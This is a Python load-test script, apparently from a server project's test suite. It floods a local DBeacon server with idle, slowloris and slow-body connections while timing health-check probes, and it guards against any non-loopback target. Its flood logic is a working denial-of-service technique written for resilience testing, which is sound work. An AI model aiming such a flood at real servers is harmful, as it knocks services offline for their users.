#!/usr/bin/env python3
"""Idle-connection and slowloris flood against a DBeacon server on loopback, with a health probe.

Opens IDLE connections that send nothing, SLOW connections that send a request head one byte
per second (slowloris) and SLOW-BODY connections that send a head and then its body one byte
per second, all from SOURCE (another loopback address, so the per-client
connection cap applies to the attacker and not to the probe), keeps them for DURATION seconds
and meanwhile asks GET /healthz from 127.0.0.1 every 200 ms. Prints one JSON object:

  {"wanted", "opened", "refused", "connect_s", "closed_by_server", "still_open",
   "still_open_by_kind", "closed_after_s": {p50, max}, "probe": {"count", "ok", "p50_ms", "max_ms", "failures"}}

Loopback only: the script refuses any other target. Used by the test suite with small numbers
and by hand with the numbers of the original report:

  scripts/connection-flood.py --port 8080 --idle 20000 --slow 200 --duration 30
"""
import argparse
import json
import resource
import select
import socket
import sys
import time

parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
parser.add_argument("--host", default="127.0.0.1")
parser.add_argument("--port", type=int, required=True)
parser.add_argument("--idle", type=int, default=1000, help="connections that send nothing")
parser.add_argument("--slow", type=int, default=50, help="connections that send a head one byte per second")
parser.add_argument("--slow-body", type=int, default=0, help="connections that send a head, then the body one byte per second")
parser.add_argument("--token", default="nobody", help="bearer token of the slow-body requests (POST /v1/beacons)")
parser.add_argument("--source", default="127.0.0.2", help="loopback address the attack comes from")
parser.add_argument("--duration", type=float, default=10, help="seconds to hold the attack")
args = parser.parse_args()

if not args.host.startswith("127.") or not args.source.startswith("127."):
    sys.exit("connection-flood.py only targets loopback (127.0.0.0/8)")

soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
# The attack must not starve this process's own probes of descriptors.
wanted = args.idle + args.slow + args.slow_body
total = min(wanted, hard - 64)

HEAD = b"GET /healthz HTTP/1.1\r\nHost: flood\r\nUser-Agent: slowloris\r\nX-Padding: " + b"a" * 64 + b"\r\n\r\n"
BODY_HEAD = (b"POST /v1/beacons HTTP/1.1\r\nHost: flood\r\nContent-Type: application/json\r\n"
             b"Authorization: Bearer " + args.token.encode() + b"\r\nContent-Length: 100000\r\n\r\n")


IP_BIND_ADDRESS_NO_PORT = 24  # Linux: choose the source port at connect(), not at bind()


def connect():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_IP, IP_BIND_ADDRESS_NO_PORT, 1)
    s.bind((args.source, 0))
    s.settimeout(2)
    s.connect((args.host, args.port))
    s.setblocking(False)
    return s


def probe():
    t0 = time.monotonic()
    try:
        with socket.create_connection((args.host, args.port), timeout=2) as s:
            s.sendall(b"GET /healthz HTTP/1.1\r\nHost: probe\r\nConnection: close\r\n\r\n")
            data = b""
            while b"\r\n\r\n" not in data:
                chunk = s.recv(4096)
                if not chunk:
                    break
                data += chunk
            ok = data.startswith(b"HTTP/1.1 200")
            return ok, (time.monotonic() - t0) * 1000, None if ok else (data[:40].decode(errors="replace") or "closed")
    except OSError as e:
        return False, (time.monotonic() - t0) * 1000, type(e).__name__ + ": " + str(e)[:60]


def reap(now):
    """Marks attack sockets the server closed (readable with no data, hung up or reset)."""
    poller = select.poll()
    by_fd = {}
    for a in attack:
        if a[4] is None:
            poller.register(a[0], select.POLLIN | select.POLLHUP | select.POLLERR)
            by_fd[a[0].fileno()] = a
    for fd, _ in poller.poll(0):
        a = by_fd[fd]
        try:
            if a[0].recv(4096) == b"":
                a[4] = now - a[2]
        except (BlockingIOError, InterruptedError):
            pass
        except OSError:
            a[4] = now - a[2]


attack = []  # [socket, kind, opened_at, bytes sent, closed after (s) or None]
refused = 0
probes = []
started = time.monotonic()
for i in range(total):
    try:
        kind = "slow" if i < args.slow else "body" if i < args.slow + args.slow_body else "idle"
        sock = connect()
        if kind == "body":
            sock.send(BODY_HEAD)
        attack.append([sock, kind, time.monotonic(), 0, None])
    except OSError:
        refused += 1
    if i % 500 == 499:
        probes.append(probe())  # the server must answer while the flood builds up too
        reap(time.monotonic())
connected = time.monotonic()


deadline = connected + args.duration
next_byte = time.monotonic()
while time.monotonic() < deadline:
    now = time.monotonic()
    if now >= next_byte:
        next_byte = now + 1
        for a in attack:
            if a[4] is not None or a[1] == "idle":
                continue
            if a[1] == "slow" and a[3] >= len(HEAD) - 4:  # never finish the head
                continue
            try:
                a[0].send(HEAD[a[3]:a[3] + 1] if a[1] == "slow" else b" ")
                a[3] += 1
            except OSError:
                a[4] = now - a[2]
    reap(now)
    probes.append(probe())
    time.sleep(0.2)
reap(time.monotonic())

closed = sorted(a[4] for a in attack if a[4] is not None)
by_kind = {k: sum(1 for a in attack if a[1] == k and a[4] is None) for k in ("idle", "slow", "body")}
latencies = sorted(p[1] for p in probes)
print(json.dumps({
    "wanted": wanted, "opened": len(attack), "refused": refused, "connect_s": round(connected - started, 2),
    "closed_by_server": len(closed), "still_open": len(attack) - len(closed), "still_open_by_kind": by_kind,
    "closed_after_s": {"p50": closed[len(closed) // 2] if closed else None, "max": closed[-1] if closed else None},
    "probe": {"count": len(probes), "ok": sum(1 for p in probes if p[0]),
              "p50_ms": latencies[len(latencies) // 2] if latencies else None,
              "max_ms": latencies[-1] if latencies else None,
              "failures": sorted({p[2] for p in probes if p[2]})},
}))
for a in attack:
    a[0].close()
